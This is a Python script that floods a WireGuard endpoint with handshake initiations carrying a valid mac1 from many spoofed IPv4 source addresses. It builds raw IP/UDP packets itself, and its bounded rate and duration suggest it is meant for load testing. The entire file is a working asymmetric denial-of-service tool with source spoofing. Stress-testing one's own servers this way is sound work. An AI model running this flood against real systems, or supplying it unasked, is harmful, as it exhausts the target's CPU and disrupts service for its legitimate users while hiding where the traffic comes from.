# SPDX-License-Identifier: Apache-2.0
# Sends handshake initiations with a valid mac1 from many spoofed IPv4 sources, at a bounded rate
# and for a bounded time. The message is built once; each copy has its own sender index and mac1,
# so the sender's cost is small and the receiver's is that of a real handshake.
# Ends early, with its counts, on SIGTERM.
# Usage: flood.py ADDRESS PORT MESSAGE_HEX MAC1_KEY_HEX RATE SECONDS FIRST_SOURCE SOURCES
import hashlib
import signal
import socket
import struct
import sys
import time


def main():
    address, port, message, key, rate, seconds, first, sources = sys.argv[1:9]
    message, key = bytes.fromhex(message), bytes.fromhex(key)
    rate, seconds, sources, port = int(rate), float(seconds), int(sources), int(port)
    target = socket.inet_aton(address)
    base, = struct.unpack("!I", socket.inet_aton(first))
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
    tail = message[8:116]
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(1))
    sent, refused, begin = 0, 0, time.monotonic()
    while (passed := time.monotonic() - begin) < seconds and not ended:
        if sent >= passed * rate:
            time.sleep(0.001)
            continue
        body = b"\1\0\0\0" + struct.pack("<I", sent) + tail
        body += hashlib.blake2s(body, key=key, digest_size=16).digest() + bytes(16)
        source = struct.pack("!I", base + sent % sources)
        # the kernel fills in the IP checksum; a UDP checksum of 0 says that there is none
        packet = struct.pack("!BBHHHBBH4s4sHHHH", 0x45, 0, 176, sent & 0xffff, 0, 64, 17, 0,
                             source, target, 1024 + sent % 60000, port, 156, 0) + body
        try:
            sock.sendto(packet, (address, 0))
        except OSError:
            refused += 1
        sent += 1
    print(sent, refused)


main()
